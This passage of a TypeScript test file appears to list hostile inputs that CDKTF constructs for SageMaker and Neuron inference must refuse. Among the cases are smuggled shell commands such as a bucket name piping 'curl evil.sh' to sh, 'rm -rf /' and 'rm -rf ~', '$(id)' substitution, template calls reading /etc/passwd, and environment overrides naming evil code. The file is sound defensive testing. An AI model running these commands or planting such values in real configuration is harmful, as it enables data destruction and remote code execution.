// Hostile inputs for every public construct and factory, by class: wrong types from JavaScript
// callers, non-finite and fractional numbers, negative zero, empty and over-long strings, control
// characters, Unicode lookalikes, shell metacharacters, Terraform template syntax, IAM wildcards,
// path traversal, names and tags AWS refuses at apply, values over SageMaker's limits, and Terraform
// references (a secret's value, or a value known only at plan time). Each case names the prop its
// refusal must name, and when it is refused: at synth, or at plan time by a precondition.
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { TerraformStack, TerraformVariable } from "cdktf";
import { DataAwsSecretsmanagerSecretVersion } from "@cdktf/provider-aws/lib/data-aws-secretsmanager-secret-version";
import { ContainerImageConfig, NeuronxContainerImage } from "../../lib/container-images";
import { Model, Parameters } from "../../lib/model";
import { TransformersNeuronxSageMakerInferenceModelData as ModelData, S3ModelDataProps } from "../../lib/model-data";
import { NeuronxCompile, NeuronxCompileProps } from "../../lib/neuronx-compile";
import { LambdaInferenceDependencies, LambdaInferenceFunction, LambdaInferenceFunctionProps } from "../../lib/lambda-inference";
import { LambdaInferenceFrontDoor } from "../../lib/lambda-inference-front-door";
import { EfsLambdaModelProps, LambdaInferenceModel, S3LambdaModelProps } from "../../lib/lambda-inference-model";
import { show } from "../../lib/private/validation";
import { TritonSageMakerRealtimeInferenceEndpoint, TritonSageMakerRealtimeInferenceEndpointProps } from "../../lib/triton-endpoint";
import { TritonImage } from "../../lib/triton-image";
import { TritonCompiledModel, TritonNeuronModelRepository, TritonNeuronModelRepositoryProps } from "../../lib/triton-model-repository";
import { OptimumNeuronCompile, OptimumNeuronCompileProps } from "../../lib/optimum-neuron-compile";
import { OptimumNeuronModelData, OptimumNeuronSageMakerRealtimeInferenceEndpoint } from "../../lib/optimum-neuron-endpoint";
import { OptimumNeuronContainerImage } from "../../lib/optimum-neuron-spec";
import {
  TransformersNeuronxSageMakerRealtimeInferenceEndpoint as Endpoint,
  TransformersNeuronxSageMakerRealtimeInferenceEndpointProps as EndpointProps,
} from "../../lib/realtime-endpoint";

/** One hostile input. */
export interface HostileCase {
  /** What it tries. */
  readonly name: string;
  /** Its class. */
  readonly kind: string;
  /** The prop the refusal must name, as the user typed it. */
  readonly prop: string;
  /** At synth (a ValidationError), or at plan time (a precondition naming the prop, since the value is a reference). */
  readonly refusedAt: "synth" | "plan";
  /** Builds the constructs with the input in an empty stack (with the AWS and null providers). */
  readonly build: (stack: TerraformStack) => void;
}

const TINY = () => Model.fromHuggingFace("TinyLlama/TinyLlama-1.1B-Chat-v1.0");
/** Bypasses the types, as a JavaScript caller does. */
const any = (value: unknown) => value as never;
const variable = (stack: TerraformStack, name: string, sensitive = false) =>
  new TerraformVariable(stack, name, { type: "string", sensitive }).stringValue;

const compile = (props: (stack: TerraformStack) => Partial<NeuronxCompileProps>) => (stack: TerraformStack) => {
  new NeuronxCompile(stack, "Compile", { model: TINY(), ...props(stack) });
};
const endpoint = (props: (stack: TerraformStack) => Partial<EndpointProps>) => (stack: TerraformStack) => {
  const c = new NeuronxCompile(stack, "Compile", { model: TINY() });
  new Endpoint(stack, "Inference", { modelData: ModelData.fromNeuronxCompile(c), ...props(stack) });
};
const fromS3 = (props: (stack: TerraformStack) => Partial<S3ModelDataProps>) => (stack: TerraformStack) => {
  new Endpoint(stack, "Inference", {
    modelData: ModelData.fromS3({
      bucket: "shared-models",
      prefix: "llama/8b/",
      model: Model.fromHuggingFace("meta-llama/Meta-Llama-3-8B-Instruct"),
      compileOptions: { tpDegree: 2 },
      ...props(stack),
    }),
  });
};
const optimum = (props: (stack: TerraformStack) => Partial<OptimumNeuronCompileProps>) => (stack: TerraformStack) => {
  new OptimumNeuronCompile(stack, "Compile", { model: TINY(), exportOptions: { sequenceLength: 2048 }, ...props(stack) });
};
const optimumEndpoint = (props: (stack: TerraformStack) => Record<string, unknown>) => (stack: TerraformStack) => {
  const c = new OptimumNeuronCompile(stack, "Compile", { model: TINY(), exportOptions: { sequenceLength: 2048 } });
  new OptimumNeuronSageMakerRealtimeInferenceEndpoint(stack, "Inference", {
    modelData: OptimumNeuronModelData.fromCompile(c),
    ...props(stack),
  });
};
const model =
  (id: unknown, options: object = {}) =>
  () => {
    Model.fromHuggingFace(any(id), { parameters: Parameters.billion(1), ...options });
  };

/** A code directory built for a case: inference.py plus what `extra` adds. */
function codeDir(extra: (dir: string) => void, withInference = true): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "hostile-code-"));
  if (withInference) fs.writeFileSync(path.join(dir, "inference.py"), "def model_fn(d):\n    return d\n");
  extra(dir);
  return dir;
}

/** A user's own image class, whose bind() returns what it likes. */
class HostileImage extends NeuronxContainerImage {
  constructor(
    public readonly neuronSdkVersion: string,
    private readonly config: ContainerImageConfig,
  ) {
    super();
  }
  public bind(): ContainerImageConfig {
    return this.config;
  }
}
const hostileImage = (sdk: string, config: Partial<ContainerImageConfig>) =>
  new HostileImage(sdk, {
    imageUri: "123456789012.dkr.ecr.us-east-1.amazonaws.com/n:2.21.0",
    registry: "123456789012.dkr.ecr.us-east-1.amazonaws.com",
    repositoryArn: "arn:aws:ecr:us-east-1:123456789012:repository/n",
    ...config,
  });

const LAYER = () => LambdaInferenceDependencies.fromLayerArn("arn:aws:lambda:us-east-1:123456789012:layer:lambda-inference:1", 144);
const lambdaFromS3 = (props: (stack: TerraformStack) => Partial<S3LambdaModelProps>) => (stack: TerraformStack) => {
  new LambdaInferenceFunction(stack, "Chat", {
    model: LambdaInferenceModel.fromS3({ bucket: "my-models", prefix: "tiny/", sizeMiB: 100, ...props(stack) }),
    dependencies: LAYER(),
  });
};
const lambdaFunction = (props: (stack: TerraformStack) => Partial<LambdaInferenceFunctionProps>) => (stack: TerraformStack) => {
  new LambdaInferenceFunction(stack, "Chat", {
    model: LambdaInferenceModel.fromS3({ bucket: "my-models", prefix: "tiny/", sizeMiB: 100 }),
    dependencies: LAYER(),
    ...props(stack),
  });
};
const lambdaFromEfs = (props: Partial<EfsLambdaModelProps>) => (stack: TerraformStack) => {
  new LambdaInferenceFunction(stack, "Chat", {
    model: LambdaInferenceModel.fromEfs({
      fileSystemId: "fs-0123456789abcdef0",
      path: "/models/tiny",
      sizeMiB: 100,
      subnetIds: ["subnet-0123456789abcdef0"],
      mountTargetSecurityGroupId: "sg-0123456789abcdef0",
      ...props,
    }),
    dependencies: LAYER(),
  });
};
const tritonRepository = (props: (stack: TerraformStack) => Partial<TritonNeuronModelRepositoryProps>) => (stack: TerraformStack) => {
  new TritonNeuronModelRepository(stack, "Repository", {
    bucket: "my-models",
    instanceType: "ml.inf2.xlarge",
    models: [
      {
        name: "encoder",
        compiledModel: TritonCompiledModel.fromS3Object("my-models", "traced/encoder.pt"),
        compiledBatchSize: 1,
        inputs: [{ name: "INPUT__0", dataType: "TYPE_INT64", dims: [128] }],
        outputs: [{ name: "OUTPUT__0", dataType: "TYPE_FP32", dims: [2] }],
      },
    ],
    ...props(stack),
  });
};
const tritonEndpoint =
  (props: (stack: TerraformStack) => Partial<TritonSageMakerRealtimeInferenceEndpointProps>) => (stack: TerraformStack) => {
    tritonRepository(() => ({}))(stack);
    new TritonSageMakerRealtimeInferenceEndpoint(stack, "Triton", {
      repository: stack.node.findChild("Repository") as TritonNeuronModelRepository,
      image: TritonImage.fromEcrUri("123456789012.dkr.ecr.us-east-1.amazonaws.com/triton:1", "2.21.0"),
      ...props(stack),
    });
  };
const manyTags = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`Tag${i}`, "x"]));
const manyVariables = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`VAR_${i}`, "x"]));

const BUCKET_NAMES: [string, string][] = [
  ["*", "IAM wildcard"],
  ["192.168.5.4", "IP address form"],
  ["xn--models", "reserved prefix xn--"],
  ["sthree-models", "reserved prefix sthree-"],
  ["amzn-s3-demo-models", "reserved prefix amzn-s3-demo-"],
  ["models-s3alias", "reserved suffix -s3alias"],
  ["models--ol-s3", "reserved suffix --ol-s3"],
  ["models.mrap", "reserved suffix .mrap"],
  ["my.-models", '".-"'],
  ["my-.models", '"-."'],
  ["my..models", '".."'],
  ["My_Models", "uppercase and underscore"],
  ["mоdels", "Cyrillic lookalike"],
  ["models\n", "newline"],
  ["", "empty"],
  ["m".repeat(64), "64 characters"],
  ["models'; curl evil.sh | sh; '", "shell metacharacters"],
];

/** The table. */
export const HOSTILE_CASES: HostileCase[] = [
  // NeuronxCompile: bucket names AWS refuses, and what would reach IAM or the shell.
  ...BUCKET_NAMES.map(([bucket, what]) => ({
    name: `NeuronxCompile bucket ${JSON.stringify(bucket)} (${what})`,
    kind: "bucket name",
    prop: "bucket",
    refusedAt: "synth" as const,
    build: compile(() => ({ bucket })),
  })),
  { name: "NeuronxCompile bucket 42", kind: "wrong type", prop: "bucket", refusedAt: "synth", build: compile(() => ({ bucket: any(42) })) },
  {
    name: "NeuronxCompile bucket from a Terraform variable",
    kind: "reference",
    prop: "bucket",
    refusedAt: "plan",
    build: compile((s) => ({ bucket: variable(s, "bucket") })),
  },
  {
    name: 'NeuronxCompile subnetId "subnet-0123456789abcdef0; rm -rf /"',
    kind: "shell metacharacters",
    prop: "subnetId",
    refusedAt: "synth",
    build: compile(() => ({ subnetId: "subnet-0123456789abcdef0; rm -rf /" })),
  },
  {
    name: 'NeuronxCompile subnetId "*"',
    kind: "IAM wildcard",
    prop: "subnetId",
    refusedAt: "synth",
    build: compile(() => ({ subnetId: "*" })),
  },
  {
    name: "NeuronxCompile subnetId from a Terraform variable",
    kind: "reference",
    prop: "subnetId",
    refusedAt: "plan",
    build: compile((s) => ({ subnetId: variable(s, "subnet") })),
  },
  {
    name: "NeuronxCompile amiId with a command",
    kind: "shell metacharacters",
    prop: "amiId",
    refusedAt: "synth",
    build: compile(() => ({ amiId: "ami-0123456789abcdef0 && curl x" })),
  },
  {
    name: "NeuronxCompile amiSsmParameter with Terraform template syntax",
    kind: "template syntax",
    prop: "amiSsmParameter",
    refusedAt: "synth",
    build: compile(() => ({ amiSsmParameter: '/x/${file("/etc/passwd")}' })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenSecretArn is the token itself",
    kind: "secret",
    prop: "huggingFaceTokenSecretArn",
    refusedAt: "synth",
    build: compile(() => ({ huggingFaceTokenSecretArn: "hf_abcdefghijklmnopqrstuvwxyz0123456789" })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenSecretArn with an IAM wildcard",
    kind: "IAM wildcard",
    prop: "huggingFaceTokenSecretArn",
    refusedAt: "synth",
    build: compile(() => ({ huggingFaceTokenSecretArn: "arn:aws:secretsmanager:us-east-1:123456789012:secret:*" })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenSecretArn is a secret's value (secret_string)",
    kind: "secret",
    prop: "huggingFaceTokenSecretArn",
    refusedAt: "synth",
    build: compile((s) => ({
      huggingFaceTokenSecretArn: new DataAwsSecretsmanagerSecretVersion(s, "Token", { secretId: "hf-token" }).secretString,
    })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenSecretArn is a sensitive variable",
    kind: "secret",
    prop: "huggingFaceTokenSecretArn",
    refusedAt: "synth",
    build: compile((s) => ({ huggingFaceTokenSecretArn: variable(s, "hf_token", true) })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenSecretArn from a Terraform variable (a token passed as -var would reach user data)",
    kind: "reference",
    prop: "huggingFaceTokenSecretArn",
    refusedAt: "plan",
    build: compile((s) => ({ huggingFaceTokenSecretArn: variable(s, "secret_arn") })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenKmsKeyArn is an alias",
    kind: "ARN",
    prop: "huggingFaceTokenKmsKeyArn",
    refusedAt: "synth",
    build: compile(() => ({
      huggingFaceTokenSecretArn: "arn:aws:secretsmanager:us-east-1:123456789012:secret:hf-AbCdEf",
      huggingFaceTokenKmsKeyArn: "alias/aws/secretsmanager",
    })),
  },
  {
    name: "NeuronxCompile huggingFaceTokenKmsKeyArn without a secret",
    kind: "combination",
    prop: "huggingFaceTokenKmsKeyArn",
    refusedAt: "synth",
    build: compile(() => ({ huggingFaceTokenKmsKeyArn: "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab" })),
  },
  ...(
    [
      ["deadlineMinutes", NaN, "not a number"],
      ["deadlineMinutes", Infinity, "non-finite"],
      ["deadlineMinutes", 60.5, "fraction"],
      ["deadlineMinutes", "60", "string"],
      ["pollIntervalSeconds", -0, "negative zero"],
      ["rootVolumeSizeGiB", 1e9, "over the limit"],
      ["rootVolumeSizeGiB", null, "null"],
    ] as const
  ).map(([prop, value, what]) => ({
    name: `NeuronxCompile ${prop} ${show(value)} (${what})`,
    kind: "number",
    prop,
    refusedAt: "synth" as const,
    build: compile(() => ({ [prop]: any(value) })),
  })),
  {
    name: "NeuronxCompile pollIntervalSeconds from a Terraform variable",
    kind: "reference",
    prop: "pollIntervalSeconds",
    refusedAt: "synth",
    build: compile((s) => ({ pollIntervalSeconds: new TerraformVariable(s, "poll", { type: "number" }).numberValue })),
  },
  {
    name: 'NeuronxCompile spot "false"',
    kind: "wrong type",
    prop: "spot",
    refusedAt: "synth",
    build: compile(() => ({ spot: any("false") })),
  },
  {
    name: "NeuronxCompile bucketForceDestroy 1",
    kind: "wrong type",
    prop: "bucketForceDestroy",
    refusedAt: "synth",
    build: compile(() => ({ bucketForceDestroy: any(1) })),
  },
  {
    name: 'NeuronxCompile instanceType "inf2.xlarge; reboot"',
    kind: "shell metacharacters",
    prop: "instanceType",
    refusedAt: "synth",
    build: compile(() => ({ instanceType: "inf2.xlarge; reboot" })),
  },
  {
    name: "NeuronxCompile servingInstanceType 2",
    kind: "wrong type",
    prop: "servingInstanceType",
    refusedAt: "synth",
    build: compile(() => ({ servingInstanceType: any(2) })),
  },
  { name: "NeuronxCompile 51 tags", kind: "tags", prop: "tags", refusedAt: "synth", build: compile(() => ({ tags: manyTags(51) })) },
  {
    name: 'NeuronxCompile tag key "aws:owner"',
    kind: "tags",
    prop: "tags",
    refusedAt: "synth",
    build: compile(() => ({ tags: { "aws:owner": "x" } })),
  },
  {
    name: "NeuronxCompile tag value with Terraform template syntax",
    kind: "template syntax",
    prop: "tags",
    refusedAt: "synth",
    build: compile(() => ({ tags: { Note: '${file("/etc/passwd")}' } })),
  },
  {
    name: "NeuronxCompile tag value with a newline",
    kind: "control characters",
    prop: "tags",
    refusedAt: "synth",
    build: compile(() => ({ tags: { Note: "a\nb" } })),
  },
  {
    name: "NeuronxCompile tag keys that differ only in case",
    kind: "tags",
    prop: "tags",
    refusedAt: "synth",
    build: compile(() => ({ tags: { managedby: "me" } })),
  },
  {
    name: "NeuronxCompile tags as a list",
    kind: "wrong type",
    prop: "tags",
    refusedAt: "synth",
    build: compile(() => ({ tags: any(["a"]) })),
  },
  {
    name: "NeuronxCompile containerImage as a string",
    kind: "wrong type",
    prop: "containerImage",
    refusedAt: "synth",
    build: compile(() => ({ containerImage: any("123456789012.dkr.ecr.us-east-1.amazonaws.com/n:1") })),
  },
  {
    name: "NeuronxCompile amiSsmParameter with a .. segment",
    kind: "path traversal",
    prop: "amiSsmParameter",
    refusedAt: "synth",
    build: compile(() => ({ amiSsmParameter: "/aws/service/../../my/param" })),
  },
  {
    name: "NeuronxCompile containerImage of the user's own class granting every repository",
    kind: "IAM wildcard",
    prop: "containerImage repository ARN",
    refusedAt: "synth",
    build: compile(() => ({ containerImage: hostileImage("2.21.0", { repositoryArn: "*" }) })),
  },
  {
    name: "NeuronxCompile containerImage of the user's own class with a command in its URI",
    kind: "shell metacharacters",
    prop: "containerImage image URI",
    refusedAt: "synth",
    build: compile(() => ({ containerImage: hostileImage("2.21.0", { imageUri: "x$(id):1" }) })),
  },
  {
    name: "NeuronxCompile containerImage of the user's own class with a hostile SDK release",
    kind: "cache key",
    prop: "containerImage.neuronSdkVersion",
    refusedAt: "synth",
    build: compile(() => ({ containerImage: hostileImage("2.21.0/../../x", {}) })),
  },
  {
    name: "NeuronxCompile model as a string",
    kind: "wrong type",
    prop: "model",
    refusedAt: "synth",
    build: (s) => {
      new NeuronxCompile(s, "Compile", { model: any("gpt2") });
    },
  },
  {
    name: "NeuronxCompile without props",
    kind: "wrong type",
    prop: "props",
    refusedAt: "synth",
    build: (s) => {
      new NeuronxCompile(s, "Compile", any(undefined));
    },
  },
  // CompileOptions.
  ...(
    [
      ["nPositions", 1.5],
      ["batchSize", Infinity],
      ["tpDegree", "2"],
      ["amp", "fp8; id"],
      ["optLevel", "3"],
    ] as const
  ).map(([option, value]) => ({
    name: `compileOptions.${option} ${show(value)}`,
    kind: "compile option",
    prop: `compileOptions.${option}`,
    refusedAt: "synth" as const,
    build: compile(() => ({ compileOptions: { [option]: any(value) } })),
  })),
  {
    name: 'compileOptions "fast"',
    kind: "wrong type",
    prop: "compileOptions",
    refusedAt: "synth",
    build: compile(() => ({ compileOptions: any("fast") })),
  },
  // Model.fromHuggingFace and Parameters.
  ...(
    [
      ["org/name'; rm -rf ~; '", "shell metacharacters"],
      ["../../etc/passwd", "path traversal"],
      ["org/name.", "ends with a dot"],
      ["org--x/name", '"--"'],
      ["org/name.git", 'ends with ".git"'],
      ["meta-llamа/Llama-2-7b", "Cyrillic lookalike"],
      ['org/${file("x")}', "template syntax"],
      [123, "number"],
    ] as const
  ).map(([id, what]) => ({
    name: `Model.fromHuggingFace(${JSON.stringify(id)}) (${what})`,
    kind: "model id",
    prop: "the model id",
    refusedAt: "synth" as const,
    build: model(id),
  })),
  ...(
    [
      ["main/", 'ends with "/"'],
      ["v1.lock", 'ends with ".lock"'],
      ["refs/heads/../../x", "traversal"],
      ["main\u0000", "NUL"],
      ["$(id)", "command substitution"],
      ["r".repeat(200), "200 characters"],
      ["@{-1}", '"@{"'],
      [7, "number"],
    ] as const
  ).map(([revision, what]) => ({
    name: `revision ${JSON.stringify(revision)} (${what})`,
    kind: "revision",
    prop: "revision",
    refusedAt: "synth" as const,
    build: model("gpt2", { revision }),
  })),
  { name: "Parameters.billion(NaN)", kind: "number", prop: "Parameters.billion", refusedAt: "synth", build: () => Parameters.billion(NaN) },
  {
    name: 'Parameters.billion("7")',
    kind: "wrong type",
    prop: "Parameters.billion",
    refusedAt: "synth",
    build: () => Parameters.billion(any("7")),
  },
  { name: "parameters as a number", kind: "wrong type", prop: "parameters", refusedAt: "synth", build: model("gpt2", { parameters: 7e9 }) },
  {
    name: 'allowPickleWeights "yes"',
    kind: "wrong type",
    prop: "allowPickleWeights",
    refusedAt: "synth",
    build: model("gpt2", { allowPickleWeights: "yes" }),
  },
  // NeuronxContainerImage.fromEcrUri.
  ...(
    [
      ["123456789012.dkr.ecr.us-east-1.amazonaws.com/repo:tag;id", "2.21.0", "imageUri", "shell metacharacters"],
      ["123456789012.dkr.ecr.us-east-1.amazonaws.com/*:tag", "2.21.0", "imageUri", "IAM wildcard"],
      ["123456789012.dkr.ecr.us-east-1.amazonaws.com/a//b:tag", "2.21.0", "imageUri", "empty path segment"],
      [1234, "2.21.0", "imageUri", "number"],
      ["123456789012.dkr.ecr.us-east-1.amazonaws.com/n:2.21.0", 2.21, "neuronSdkVersion", "number"],
      ["123456789012.dkr.ecr.us-east-1.amazonaws.com/n:2.21.0", "2.21.0\n", "neuronSdkVersion", "newline"],
    ] as const
  ).map(([uri, sdk, prop, what]) => ({
    name: `NeuronxContainerImage.fromEcrUri ${prop} (${what})`,
    kind: "image",
    prop,
    refusedAt: "synth" as const,
    build: () => NeuronxContainerImage.fromEcrUri(any(uri), any(sdk)),
  })),
  // fromS3: the same bucket and prefix rules as the compile side.
  {
    name: 'fromS3 bucket "*" and prefix "*/"',
    kind: "IAM wildcard",
    prop: "bucket",
    refusedAt: "synth",
    build: fromS3(() => ({ bucket: "*", prefix: "*/" })),
  },
  ...(
    [
      ["*/", "IAM wildcard"],
      ["a/?/", "IAM wildcard ?"],
      ["../x/", "traversal"],
      ["a/./b/", '"." segment'],
      ["/abs/", 'leading "/"'],
      ["a//b/", "empty segment"],
      ["${aws:username}/", "IAM policy variable"],
      ["a b/", "space"],
      ["llama/8b", 'no trailing "/"'],
      ["a\n/", "newline"],
    ] as const
  ).map(([prefix, what]) => ({
    name: `fromS3 prefix ${JSON.stringify(prefix)} (${what})`,
    kind: "key prefix",
    prop: "prefix",
    refusedAt: "synth" as const,
    build: fromS3(() => ({ prefix })),
  })),
  {
    name: "fromS3 prefix from a Terraform variable",
    kind: "reference",
    prop: "prefix",
    refusedAt: "plan",
    build: fromS3((s) => ({ prefix: variable(s, "prefix") })),
  },
  {
    name: "fromS3 bucket from a Terraform variable",
    kind: "reference",
    prop: "bucket",
    refusedAt: "plan",
    build: fromS3((s) => ({ bucket: variable(s, "bucket") })),
  },
  {
    name: 'fromS3 bucket "Bad_Bucket"',
    kind: "bucket name",
    prop: "bucket",
    refusedAt: "synth",
    build: fromS3(() => ({ bucket: "Bad_Bucket" })),
  },
  {
    name: "fromS3 without tpDegree",
    kind: "compile option",
    prop: "compileOptions.tpDegree",
    refusedAt: "synth",
    build: fromS3(() => ({ compileOptions: any({}) })),
  },
  {
    name: "fromS3 without compileOptions",
    kind: "wrong type",
    prop: "compileOptions",
    refusedAt: "synth",
    build: fromS3(() => ({ compileOptions: any(undefined) })),
  },
  // Custom code directories.
  {
    name: "customCodeDir with a symbolic link out of the directory",
    kind: "code directory",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: fromS3(() => ({ customCodeDir: codeDir((d) => fs.symlinkSync("/etc/passwd", path.join(d, "passwd"))) })),
  },
  {
    name: "customCodeDir whose inference.py is a directory",
    kind: "code directory",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: fromS3(() => ({ customCodeDir: codeDir((d) => fs.mkdirSync(path.join(d, "inference.py")), false) })),
  },
  {
    name: "customCodeDir whose inference.py links out of the directory",
    kind: "code directory",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: fromS3(() => ({
      customCodeDir: codeDir((d) => {
        const outside = fs.mkdtempSync(path.join(os.tmpdir(), "outside-"));
        fs.writeFileSync(path.join(outside, "inference.py"), "x = 1\n");
        fs.symlinkSync(path.join(outside, "inference.py"), path.join(d, "inference.py"));
      }, false),
    })),
  },
  {
    name: "customCodeDir with a NUL character",
    kind: "control characters",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: fromS3(() => ({ customCodeDir: "/tmp/code\u0000/x" })),
  },
  {
    name: "customCodeDir whose path is too long for the file system",
    kind: "very long string",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: fromS3(() => ({ customCodeDir: `/tmp/${"d".repeat(5000)}` })),
  },
  {
    name: "customCodeDir that does not exist",
    kind: "code directory",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: fromS3(() => ({ customCodeDir: "/nonexistent/code" })),
  },
  {
    name: "customCodeDir exclude with a number",
    kind: "wrong type",
    prop: "customCodeDir.exclude",
    refusedAt: "synth",
    build: fromS3(() => ({ customCodeDir: { path: codeDir(() => undefined), exclude: any([5]) } })),
  },
  {
    name: "fromNeuronxCompile with a plain object",
    kind: "wrong type",
    prop: "compile",
    refusedAt: "synth",
    build: () => ModelData.fromNeuronxCompile(any({ artifactPrefix: "*" })),
  },
  {
    name: "fromNeuronxCompile customCodeDir 42",
    kind: "wrong type",
    prop: "customCodeDir",
    refusedAt: "synth",
    build: (s) => ModelData.fromNeuronxCompile(new NeuronxCompile(s, "Compile", { model: TINY() }), any(42)),
  },
  // fromNeuronxCompileOutputs: values read from another stack's state.
  ...(
    [
      ["bucketArn", "arn:aws:s3:::*", "IAM wildcard"],
      ["compiledArtifactS3Url", "s3://models/../x/", "traversal"],
      ["bucketName", "xn--models", "reserved prefix"],
    ] as const
  ).map(([output, value, what]) => ({
    name: `fromNeuronxCompileOutputs outputs.${output} ${JSON.stringify(value)} (${what})`,
    kind: "outputs",
    prop: `outputs.${output}`,
    refusedAt: "synth" as const,
    build: (s: TerraformStack) =>
      ModelData.fromNeuronxCompileOutputs(new NeuronxCompile(s, "Compile", { model: TINY() }), {
        bucketName: "models",
        bucketArn: "arn:aws:s3:::models",
        compiledArtifactS3Url: "s3://models/a/",
        [output]: value,
      }),
  })),
  {
    name: "fromNeuronxCompileOutputs outputs naming two buckets",
    kind: "IAM scope",
    prop: "outputs.bucketArn",
    refusedAt: "synth",
    build: (s: TerraformStack) =>
      ModelData.fromNeuronxCompileOutputs(new NeuronxCompile(s, "Compile", { model: TINY() }), {
        bucketName: "models",
        bucketArn: "arn:aws:s3:::other-team-models",
        compiledArtifactS3Url: "s3://models/a/",
      }),
  },
  {
    name: "fromNeuronxCompileOutputs outputs from Terraform variables",
    kind: "reference",
    prop: "outputs.bucketArn",
    refusedAt: "plan",
    build: (s) => {
      const c = new NeuronxCompile(s, "Compile", { model: TINY() });
      new Endpoint(s, "Inference", {
        modelData: ModelData.fromNeuronxCompileOutputs(c, {
          bucketName: variable(s, "bucket"),
          bucketArn: variable(s, "bucket_arn"),
          compiledArtifactS3Url: variable(s, "url"),
        }),
      });
    },
  },
  // The endpoint.
  ...(
    [
      ["SAGEMAKER_PROGRAM", "evil.py"],
      ["SAGEMAKER_SUBMIT_DIRECTORY", "s3://evil/code.tar.gz"],
      ["NEURON_RT_NUM_CORES", "24"],
      ["SAGEMAKER_MODEL_SERVER_WORKERS", "4"],
      ["NEURONX_MODEL_ID", "other/model"],
    ] as const
  ).map(([key, value]) => ({
    name: `endpoint environment.${key}`,
    kind: "reserved environment",
    prop: `environment.${key}`,
    refusedAt: "synth" as const,
    build: endpoint(() => ({ environment: { [key]: value } })),
  })),
  {
    name: "endpoint environment with 101 variables",
    kind: "SageMaker limit",
    prop: "environment",
    refusedAt: "synth",
    build: endpoint(() => ({ environment: manyVariables(101) })),
  },
  {
    name: "endpoint environment value of 2000 characters",
    kind: "SageMaker limit",
    prop: "environment.BIG",
    refusedAt: "synth",
    build: endpoint(() => ({ environment: { BIG: "x".repeat(2000) } })),
  },
  {
    name: 'endpoint environment key "LD-PRELOAD"',
    kind: "environment key",
    prop: "environment key",
    refusedAt: "synth",
    build: endpoint(() => ({ environment: { "LD-PRELOAD": "x" } })),
  },
  {
    name: "endpoint environment value 42",
    kind: "wrong type",
    prop: "environment.N",
    refusedAt: "synth",
    build: endpoint(() => ({ environment: any({ N: 42 }) })),
  },
  {
    name: "endpoint environment value is a secret's value",
    kind: "secret",
    prop: "environment.TOKEN",
    refusedAt: "synth",
    build: endpoint((s) => ({
      environment: { TOKEN: new DataAwsSecretsmanagerSecretVersion(s, "Token", { secretId: "hf-token" }).secretString },
    })),
  },
  ...(
    [
      ["targetInvocationsPerInstance", Infinity],
      ["targetInvocationsPerInstance", NaN],
      ["targetInvocationsPerInstance", -0],
      ["minCapacity", 1.5],
      ["scaleInCooldownSeconds", -1],
    ] as const
  ).map(([key, value]) => ({
    name: `endpoint autoScaling.${key} ${show(value)}`,
    kind: "number",
    prop: `autoScaling.${key}`,
    refusedAt: "synth" as const,
    build: endpoint(() => ({ autoScaling: { minCapacity: 1, maxCapacity: 2, targetInvocationsPerInstance: 10, [key]: value } })),
  })),
  ...(
    [
      ["instanceCount", 0.5],
      ["instanceCount", "2"],
      ["volumeSizeGiB", Infinity],
      ["modelDataDownloadTimeoutSeconds", NaN],
      ["networkIsolation", "false"],
      ["instanceType", "ml.inf2.xlarge\n"],
      ["endpointName", "my endpoint"],
      ["endpointName", "e".repeat(64)],
      ["endpointName", "chat-${var.x}"],
      ["kmsKeyArn", "arn:aws:kms:us-east-1:123456789012:key/*"],
    ] as const
  ).map(([prop, value]) => ({
    name: `endpoint ${prop} ${show(value)}`,
    kind: "endpoint prop",
    prop,
    refusedAt: "synth" as const,
    build: endpoint(() => ({ [prop]: any(value) })),
  })),
  {
    name: "endpoint endpointName from a Terraform variable",
    kind: "reference",
    prop: "endpointName",
    refusedAt: "plan",
    build: endpoint((s) => ({ endpointName: variable(s, "name") })),
  },
  ...(
    [
      ["destinationS3Uri", "s3://*/capture", "IAM wildcard"],
      ["destinationS3Uri", "s3://captures/../x", "traversal"],
      ["destinationS3Uri", "s3://xn--captures/x", "reserved bucket prefix"],
      ["destinationS3Uri", "https://captures.s3.amazonaws.com/x", "not s3://"],
      ["samplingPercentage", -0, "negative zero"],
      ["samplingPercentage", 12.5, "fraction"],
      ["kmsKeyArn", "key", "not an ARN"],
    ] as const
  ).map(([key, value, what]) => ({
    name: `endpoint dataCapture.${key} (${what})`,
    kind: "data capture",
    prop: `dataCapture.${key}`,
    refusedAt: "synth" as const,
    build: endpoint(() => ({ dataCapture: { destinationS3Uri: "s3://captures/chat", [key]: any(value) } })),
  })),
  {
    name: "endpoint dataCapture.destinationS3Uri from a Terraform variable",
    kind: "reference",
    prop: "dataCapture.destinationS3Uri",
    refusedAt: "plan",
    build: endpoint((s) => ({ dataCapture: { destinationS3Uri: variable(s, "capture") } })),
  },
  {
    name: 'endpoint vpcConfig.subnetIds "subnet-1" (not a list)',
    kind: "wrong type",
    prop: "vpcConfig.subnetIds",
    refusedAt: "synth",
    build: endpoint(() => ({ vpcConfig: { subnetIds: any("subnet-0123456789abcdef0"), securityGroupIds: ["sg-0123456789abcdef0"] } })),
  },
  {
    name: "endpoint vpcConfig.subnetIds with a wildcard",
    kind: "IAM wildcard",
    prop: "vpcConfig.subnetIds[0]",
    refusedAt: "synth",
    build: endpoint(() => ({ vpcConfig: { subnetIds: ["*"], securityGroupIds: ["sg-0123456789abcdef0"] } })),
  },
  {
    name: "endpoint vpcConfig.securityGroupIds with 6 groups",
    kind: "SageMaker limit",
    prop: "vpcConfig.securityGroupIds",
    refusedAt: "synth",
    build: endpoint(() => ({
      vpcConfig: {
        subnetIds: ["subnet-0123456789abcdef0"],
        securityGroupIds: Array.from({ length: 6 }, (_, i) => `sg-0123456789abcdef${i}`),
      },
